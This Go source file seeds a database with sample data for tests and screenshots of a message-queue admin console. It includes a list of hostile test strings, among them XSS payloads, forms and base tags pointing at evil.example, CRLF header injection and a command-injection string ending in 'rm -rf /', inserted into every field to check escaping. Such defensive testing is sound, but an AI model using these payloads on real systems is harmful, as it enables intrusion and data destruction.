// Package consoledata fills a database with what a console has to show: a shop at night, in which a
// partition is halted, messages and calls are parked, a sink is paused, and a request waits for a
// decision. Tests, benchmarks and screenshots of the console use it.
package consoledata

import (
	"context"
	"fmt"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgxpool"

	"github.com/onlyonce/onlyonce/outbox"
)

// Secret is in each payload, in header values and bodies. No page may show it to a person who may
// not see payloads.
const Secret = "card 4242 4242 4242 4242"

// Fill writes the sample. The database must have the schema, and nothing else in it.
func Fill(ctx context.Context, pool *pgxpool.Pool) error {
	for _, sql := range []string{
		cursorsSQL, ownersSQL, parkedSQL, parkedCallsSQL, blockedSQL, pausesSQL, keysSQL,
		eventsSQL, requestsSQL, operationsSQL, lanesSQL, unsentSQL, placesSQL, auditSQL,
	} {
		if _, err := pool.Exec(ctx, sql, pgx.QueryExecModeSimpleProtocol); err != nil {
			return fmt.Errorf("%s: %w", sql, err)
		}
	}
	return pgx.BeginFunc(ctx, pool, func(tx pgx.Tx) error {
		for n := range 40 {
			sink := "payments"
			name := "charge"
			target := "/v1/charges"
			if n%4 == 3 {
				sink = "warehouse"
				name = "reserve"
				target = "/reservations"
			}
			err := outbox.Enqueue(ctx, tx, outbox.Call{
				Sink:   sink,
				Name:   name,
				ID:     fmt.Sprintf("order-%d", n),
				Scope:  "checkout",
				Target: target,
				Body:   fmt.Appendf(nil, `{"order": %d, "amount": 1200, "from": %q}`, 900719925474099300+n, Secret),
			})
			if err != nil {
				return err
			}
		}
		return nil
	})
}

// Park adds n parked messages of scope stock, with reason exhausted and the error "bulk".
func Park(ctx context.Context, pool *pgxpool.Pool, n int) error {
	_, err := pool.Exec(
		ctx,
		`
  insert into onlyonce.parked (
    kind,
    state,
    reason,
    error,
    attempts,
    scope,
    topic,
    partition,
    "offset",
    key,
    body
  )
  select 'message',
         'waiting',
         'exhausted',
         'bulk',
         10,
         'stock',
         'orders',
         0,
         100000 + n,
         gen_random_uuid(),
         ''
    from generate_series(1, $1::int) n`,
		n,
	)
	return err
}

// Halt makes n partitions of topic ledger that are halted for reason new-topic in scope billing,
// and their owner.
func Halt(ctx context.Context, pool *pgxpool.Pool, n int) error {
	_, err := pool.Exec(ctx, haltSQL, n)
	return err
}

const haltSQL = `
with l as (insert into onlyonce.leases (name, epoch, nonce)
             select 'cursor/billing/ledger/' || p, 3, gen_random_uuid()
               from generate_series(0, $1::int - 1) p returning id, name),
c as (insert into onlyonce.cursors (
  id,
  scope,
  topic,
  partition,
  start_offset,
  start_policy,
  run_start,
  group_id,
  cluster_id,
  topic_id
)
  select l.id,
         'billing',
         'ledger',
         split_part(l.name, '/', 4)::int,
         700,
         'committed',
         700,
         'billing-v1',
         'kQ3yYQ7sTRa1',
         gen_random_uuid()
    from l)
insert into onlyonce.owners (
  id,
  scope,
  host,
  pid,
  seen_at,
  partitions
)
select gen_random_uuid(),
       'billing',
       'billing-55c4-0',
       12,
       clock_timestamp(),
       jsonb_agg(jsonb_build_object(
         'topic',
         'ledger',
         'partition',
         p,
         'epoch',
         3,
         'position',
         700,
         'high_watermark',
         20,
         'lag',
         0,
         'halted',
         'new-topic',
         'detail',
         'the topic was deleted and made again',
         'halted_for',
         40,
         'commands',
         h.c,
         'for_topic',
         h.c
       ))
  from generate_series(0, $1::int - 1) p,
       jsonb_build_array('onlyonce cursor adopt -scope billing -topic ledger '
                         '-halted new-topic -at first -reason WHY') h (c)`

// Hostile are texts that a page must show as they are. Each tries to run a script, to load
// something, or to leave the place where it is shown.
var Hostile = []string{
	`<script>window.owned=1</script>`,
	`"><img src=x onerror="window.owned=1">`,
	`'><svg/onload=window.owned=1>`,
	`</pre></code></td><script>window.owned=1</script>`,
	`javascript:window.owned=1`,
	`{{.V}}<!--`,
	`]]></style><style>*{display:none}</style>`,
	`<a href="javascript:window.owned=1">click</a>`,
	`<iframe srcdoc="<script>parent.owned=1</script>">`,
	`<form action=https://evil.example><input name=reason>`,
	`<base href=https://evil.example/>`,
	`<div hx-get="https://evil.example" hx-trigger="load">`,
	"\u202e\u0000reversed"[:3] + "reversed",
	`&lt;b&gt;&amp;amp;`,
	"a\nb\r\nSet-Cookie: x=y",
	`onlyonce parked redrive -id 1; rm -rf /`,
	`%3Cscript%3E`,
	`\u003cscript\u003e`,
}

// FillHostile puts each of the hostile texts wherever a stranger can put text: into keys, names,
// headers, scopes, topics, reasons and errors.
func FillHostile(ctx context.Context, pool *pgxpool.Pool) error {
	for i, text := range Hostile {
		for _, sql := range []string{
			`insert into onlyonce.parked (
  kind,
  state,
  reason,
  error,
  attempts,
  tenant,
  scope,
  topic,
  partition,
  "offset",
  key,
  record_key,
  header_names,
  header_values,
  body
)
    values (
      'message',
      'waiting',
      'failed',
      $1,
      1,
      $1,
      $1,
      $1,
      0,
      $2,
      gen_random_uuid(),
      convert_to($1, 'UTF8'),
      array[convert_to($1, 'UTF8')],
      array[convert_to($1, 'UTF8')],
      convert_to($1, 'UTF8')
    )`,
			`insert into onlyonce.parked (
  kind,
  state,
  reason,
  error,
  attempts,
  scope,
  sink,
  call_name,
  method,
  target,
  key,
  partition,
  "offset",
  lane,
  body
)
    values (
      'call',
      'waiting',
      'rejected',
      $1,
      1,
      $1,
      $1,
      $1,
      'POST',
      $1,
      gen_random_uuid(),
      0,
      1000 + $2,
      0,
      convert_to($1, 'UTF8')
    )`,
			`
insert into onlyonce.audit (actor, action, reason, detail)
  values ($1, $1, $1, jsonb_build_object($1::text, $1::text, 'n', $2::int))`,
			`
insert into onlyonce.pauses (
  scope,
  topic,
  partition,
  actor,
  reason
) values (
  $1,
  $1,
  $2,
  $1,
  $1
)`,
			`with l as (insert into onlyonce.leases (name) values ('cursor/' || $1) returning id)
    insert into onlyonce.cursors (
      id,
      scope,
      topic,
      partition,
      start_offset,
      start_policy,
      run_start,
      group_id
    )
      select id,
             $1,
             $1,
             $2,
             0,
             'earliest',
             0,
             $1
        from l`,
			`insert into onlyonce.owners (
  id,
  scope,
  host,
  pid,
  partitions
) values (
  gen_random_uuid(),
  $1,
  $1,
  $2,
  jsonb_build_array(jsonb_build_object(
    'topic',
    $1::text,
    'partition',
    $2::int,
    'position',
    1,
    'high_watermark',
    2,
    'lag',
    1,
    'halted',
    $1::text,
    'detail',
    $1::text,
    'resolve',
    $1::text,
    'commands',
    jsonb_build_array($1::text)
  ))
)`,
			`insert into onlyonce.places (place, state, other) values ($1 || $2::int, $1, $1)`,
			`insert into onlyonce.sinks (name, paused_at, paused_by, pause_reason) values ($1 || $2, now(), $1, $1)`,
		} {
			if _, err := pool.Exec(ctx, sql, pgx.QueryExecModeExec, text, i); err != nil {
				return fmt.Errorf("%s: %w", sql, err)
			}
		}
	}
	return nil
}

const cursorsSQL = `
with c as (
  select 'stock' as scope, 'orders' as topic, p as partition, 48210 + 977 * p as at from generate_series(0, 5) p
  union all select 'billing', 'payments', p, 9120 + 411 * p from generate_series(0, 2) p
  union all select 'mail', 'orders', p, 48100 + 977 * p from generate_series(0, 5) p
), l as (insert into onlyonce.leases (name, epoch, nonce)
           select 'cursor/' || scope || '/' || topic || '/' || partition, 3, gen_random_uuid()
             from c returning id, name)
insert into onlyonce.cursors (
  id,
  scope,
  topic,
  partition,
  start_offset,
  start_policy,
  run_start,
  group_id,
  cluster_id,
  topic_id
)
select l.id,
       c.scope,
       c.topic,
       c.partition,
       c.at,
       'committed',
       c.at,
       c.scope || '-v1',
       'kQ3yYQ7sTRa1',
       gen_random_uuid()
  from l join c on l.name = 'cursor/' || c.scope || '/' || c.topic || '/' || c.partition`

const ownersSQL = `
insert into onlyonce.owners (
  id,
  scope,
  host,
  pid,
  seen_at,
  partitions
)
select gen_random_uuid(),
       'stock',
       'stock-7d9f-' || w,
       7 + w,
       clock_timestamp(),
       (
         select jsonb_agg(jsonb_build_object(
           'topic',
           'orders',
           'partition',
           p,
           'epoch',
           3,
           'position',
           48210 + 977 * p,
           'high_watermark',
           48210 + 977 * p + 12 * p,
           'lag',
           12 * p,
           'last_stable',
           48210 + 977 * p + 12 * p,
           'last_batch_age',
           0.4 + p
         )
         || case when p = 4 then jsonb_build_object(
           'halted',
           'gap',
           'detail',
           'the log begins at 52300, and the position is 52118: 182 messages were deleted before they were handled',
           'halted_for',
           312,
           'resolve',
           'to resolve it: onlyonce cursor adopt -scope stock -topic orders -halted gap -at first -reason WHY',
           'commands',
           jsonb_build_array('onlyonce cursor adopt -scope stock -topic orders -halted gap -at first -reason WHY')
         ) else '{}' end
         || case when p = 2 then jsonb_build_object('blocked_by', jsonb_build_object(
           'offset',
           50166,
           'key',
           '9f2c41d07be3a655',
           'for',
           42,
           'done',
           7
         )) else '{}' end)
         from generate_series(3 * w, 3 * w + 2) p)
  from generate_series(0, 1) w;
insert into onlyonce.owners (
  id,
  scope,
  host,
  pid,
  seen_at,
  faults,
  partitions
)
select gen_random_uuid(),
       'billing',
       'billing-55c4-0',
       12,
       clock_timestamp(),
       '[{"kind": "group", "for": 45, "text": "group billing-v1 not joined: dial tcp 10.2.0.21:9092: i/o timeout"}]',
       jsonb_agg(jsonb_build_object(
         'topic',
         'payments',
         'partition',
         p,
         'epoch',
         3,
         'position',
         9120 + 411 * p,
         'high_watermark',
         9120 + 411 * p,
         'lag',
         0,
         'last_stable',
         9120 + 411 * p,
         'last_batch_age',
         2.5
       ))
  from generate_series(0, 2) p;
insert into onlyonce.owners (
  id,
  scope,
  host,
  pid,
  seen_at,
  partitions
) values (
  gen_random_uuid(),
  'mail',
  'mail-6b8-0',
  9,
  clock_timestamp() - interval '26 minutes',
  '[]'
)`

const parkedSQL = `
insert into onlyonce.parked (
  kind,
  state,
  reason,
  error,
  attempts,
  next_attempt_at,
  parked_at,
  tenant,
  scope,
  key,
  header_names,
  header_values,
  body,
  topic,
  partition,
  "offset",
  cluster_id,
  record_time,
  record_key
)
select 'message',
       case when n % 9 = 0 then 'retrying' else 'waiting' end,
       case when n % 9 = 0 then 'failed' when n % 3 = 0 then 'permanent' else 'exhausted' end,
       case when n % 3 = 0 then 'order has no lines'
            else E'stock: reserve: dial tcp 10.2.0.14:5432: connect: connection refused\n'
                 '\tat reserve.go:88\n\tat handler.go:31' end,
       case when n % 3 = 0 then 1 else 10 end,
       case when n % 9 = 0 then clock_timestamp() + interval '4 minutes' end,
       clock_timestamp() - n * interval '3 minutes',
       '',
       'stock',
       onlyonce.key('', 'stock', 'order-' || n),
       array['message-id'::bytea, 'authorization'::bytea],
       array[convert_to('order-' || n, 'UTF8'), 'Bearer card 4242 4242 4242 4242'::bytea],
       convert_to(
         '{"id": "order-'
           || n
           || '", "amount": 9007199254740993, "payment": "card 4242 4242 4242 4242", "lines": [{"sku": '
              '"kettle", "n": 2}]}',
         'UTF8'
       ),
       'orders',
       n % 6,
       47000 + n,
       'kQ3yYQ7sTRa1',
       clock_timestamp() - n * interval '3 minutes' - interval '20 seconds',
       convert_to('customer-' || n % 7, 'UTF8')
  from generate_series(1, 120) n`

const parkedCallsSQL = `
insert into onlyonce.parked (
  kind,
  state,
  reason,
  error,
  attempts,
  next_attempt_at,
  parked_at,
  scope,
  key,
  header_names,
  header_values,
  body,
  sink,
  lane,
  row_id,
  partition,
  "offset",
  call_name,
  method,
  target,
  first_attempt_at,
  open,
  response_status,
  response_headers,
  response_body
)
select 'call',
       case when n % 4 = 0 then 'reconcile' else 'waiting' end,
       case when n % 4 = 0 then 'window' else 'rejected' end,
       case when n % 4 = 0 then 'no answer within 30s, and the key window of 24h has passed'
            else 'HTTP 422: {"error": "card_declined"}' end,
       4,
       null,
       clock_timestamp() - n * interval '11 minutes',
       'checkout',
       gen_random_uuid(),
       array['Content-Type'::bytea],
       array['application/json'::bytea],
       convert_to('{"payment": "card 4242 4242 4242 4242"}', 'UTF8'),
       'payments',
       n % 16,
       5000 + n,
       n % 16,
       5000 + n,
       'charge',
       'POST',
       '/v1/charges',
       clock_timestamp() - interval '25 hours',
       true,
       null,
       null,
       null
  from generate_series(1, 16) n`

// A row of an ordering key that waits for a decision, and two that it blocks.
const blockedSQL = `
insert into onlyonce.parked (
  kind,
  state,
  reason,
  error,
  attempts,
  scope,
  key,
  order_key,
  topic,
  partition,
  "offset",
  body
)
select 'message',
       case when n = 0 then 'waiting' else 'blocked' end,
       case when n = 0 then 'permanent' else 'behind' end,
       case when n = 0 then 'account is closed' else '' end,
       1 - least(n, 1),
       'billing',
       onlyonce.key('', 'billing', 'payment-' || n),
       onlyonce.key('', 'billing', 'account-1'),
       'payments',
       1,
       9400 + n,
       convert_to('{"payment": ' || n || '}', 'UTF8')
  from generate_series(0, 2) n`

const pausesSQL = `
insert into onlyonce.pauses (
  scope,
  topic,
  partition,
  actor,
  reason
) values (
  'billing',
  'payments',
  2,
  'ann',
  'INC-2041: ledger migration'
)`

const keysSQL = `
insert into onlyonce_segments.consumer_keys_0
  select onlyonce.key('', 'stock', 'order-' || n), n
    from generate_series(1, 2000) n; analyze onlyonce_segments.consumer_keys_0`

const eventsSQL = `
insert into onlyonce.streams (topic, partitions) values ('webhook.stripe', 2);
select onlyonce.append_events(
  topics => array_agg('webhook.stripe'::text),
  parts => array_agg((n % 2)::smallint),
  tenants => array_agg('acct_' || n % 3),
  ids => array_agg('stripe/stripe/evt_' || n),
  order_keys => array_agg(convert_to('cus_' || n % 5, 'UTF8')),
  header_ends => array_agg((n)::integer),
  header_names => array_agg('Stripe-Signature'::text),
  header_values => array_agg('card 4242 4242 4242 4242'::bytea),
  bodies => array_agg(convert_to('{"id": "evt_' || n || '", "card": "card 4242 4242 4242 4242"}', 'UTF8'))
) from generate_series(1, 24) n`

const requestsSQL = `
select onlyonce.http_claim(
  id => onlyonce.key('acct_' || n, 'http POST /v1/charges', 'key-' || n),
  tenant => 'acct_' || n,
  scope => 'http POST /v1/charges',
  fingerprint => '',
  token => gen_random_uuid(),
  keep => '2 days',
  ttl => '-1 second'
) from generate_series(1, 5) n;
insert into onlyonce.http_steps (record_id, name) select id, 'charge' from onlyonce.http_records;
update onlyonce.http_records set state = 'reconcile' where tenant in ('acct_1', 'acct_2')`

// Two operations run, one of them is suspended: its work is parked. One has failed.
const operationsSQL = `
insert into onlyonce.streams (topic, partitions) values ('operations', 2);
insert into onlyonce.operations (
  id,
  record_id,
  topic,
  tenant,
  principal,
  name,
  keep,
  created_at
)
select ('0b7e6a52-9c1d-4e6f-8a10-00000000000' || n)::uuid,
       gen_random_uuid(),
       'operations',
       'acct_' || n,
       'ui',
       'export',
       '7 days',
       clock_timestamp() - n * interval '4 minutes'
  from generate_series(1, 3) n;
insert into onlyonce.operation_signals (id, percent, text, updated_at)
  values ('0b7e6a52-9c1d-4e6f-8a10-000000000001', 40, 'page 4 of 10', clock_timestamp());
update onlyonce.operations
   set state = 'failed',
       error_code = 'bucket_full',
       completed_at = clock_timestamp(),
       expires_at = clock_timestamp() + keep
 where tenant = 'acct_3';
insert into onlyonce.parked (
  kind,
  state,
  reason,
  error,
  attempts,
  tenant,
  scope,
  key,
  topic,
  partition,
  event_id,
  body
)
values (
  'event',
  'waiting',
  'exhausted',
  'upload: bucket is not reachable',
  10,
  'acct_2',
  'operations',
  onlyonce.key('acct_2', 'operations', '0b7e6a52-9c1d-4e6f-8a10-000000000002'),
  'operations',
  0,
  '0b7e6a52-9c1d-4e6f-8a10-000000000002',
  convert_to('{"payment": "card 4242 4242 4242 4242"}', 'UTF8')
)`

const lanesSQL = `
insert into onlyonce.sinks (name, paused_at, paused_by, pause_reason)
  values (
    'payments',
    null,
    null,
    null
  ), (
    'invoices',
    null,
    null,
    null
  ), ('warehouse', clock_timestamp() - interval '40 minutes', 'ann', 'INC-2038: warehouse is down');
with l as (insert into onlyonce.leases (name, epoch, nonce, until)
             select 'relay/' || s || '/' || n, 2, gen_random_uuid(), clock_timestamp() + interval '30 minutes'
  from generate_series(0, 15) n, unnest(array['payments', 'warehouse', 'invoices']) s returning id, name),
made as (insert into onlyonce.sink_lanes (id, sink, lane)
           select id, split_part(name, '/', 2), split_part(name, '/', 3)::smallint from l returning id)
insert into onlyonce.lane_cursors (id) select id from made`

// Calls to a remote that is down: some are tried again, others stand behind one of their ordering
// key, and their relay says so.
const unsentSQL = `
insert into onlyonce.parked (
  kind,
  state,
  reason,
  error,
  attempts,
  next_attempt_at,
  parked_at,
  record_time,
  scope,
  key,
  order_key,
  body,
  sink,
  lane,
  row_id,
  partition,
  "offset",
  call_name,
  method,
  target,
  first_attempt_at
)
select 'call',
       case when n < 6 then 'retrying' else 'blocked' end,
       case when n < 6 then 'failed' else 'behind' end,
       case when n < 6 then 'HTTP 500: {"error": "internal"}' else '' end,
       case when n < 6 then 3 else 0 end,
       case when n < 6 then clock_timestamp() + interval '20 seconds' end,
       clock_timestamp() - interval '6 minutes',
       clock_timestamp() - n * interval '50 seconds' - interval '90 seconds',
       'checkout',
       gen_random_uuid(),
       onlyonce.key('', 'checkout', 'customer-' || n % 6),
       convert_to('{"payment": "card 4242 4242 4242 4242"}', 'UTF8'),
       'invoices',
       n % 16,
       7000 + n,
       n % 16,
       7000 + n,
       'invoice',
       'POST',
       '/v1/invoices',
       case when n < 6 then clock_timestamp() - interval '6 minutes' end
  from generate_series(0, 8) n;
insert into onlyonce.owners (
  id,
  part,
  scope,
  host,
  pid,
  seen_at,
  partitions,
  faults
) values (
  gen_random_uuid(),
  'relay',
  'invoices',
  'relay-5d7b-0',
  14,
  clock_timestamp(),
  '[]',
  '[{"kind": "remote", "for": 350, "text": "HTTP 500: {\"error\": \"internal\"}"}]'
)`

const placesSQL = `
insert into onlyonce.places (
  place,
  state,
  moves,
  other,
  changed_at
) values
  (
    'acme',
    'here',
    1,
    'shard-a',
    clock_timestamp() - interval '9 days'
  ),
  (
    'globex',
    'leaving',
    0,
    'shard-c',
    clock_timestamp() - interval '4 minutes'
  ),
  (
    'initech',
    'left',
    0,
    'shard-c',
    clock_timestamp() - interval '2 days'
  )`

const auditSQL = `
insert into onlyonce.audit (
  at,
  actor,
  action,
  reason,
  detail
) values
  (
    clock_timestamp() - interval '41 minutes',
    'ann',
    'outbox pause',
    'INC-2038: warehouse is down',
    '{"sink": "warehouse"}'
  ),
  (
    clock_timestamp() - interval '12 minutes',
    'ann',
    'cursor pause',
    'INC-2041: ledger migration',
    '{"scope": "billing", "topic": "payments", "partition": 2}'
  ),
  (
    clock_timestamp() - interval '1 minute',
    'ben',
    'parked redrive',
    'INC-2031: stock is up again',
    '{"filter": {"scope": "stock", "kind": "message"}, "count": 3, "ids": [1, 2, 4]}'
  );
update onlyonce.parked set redrives = 1, redriven_at = clock_timestamp() - interval '1 minute' where id in (1, 2, 4)`
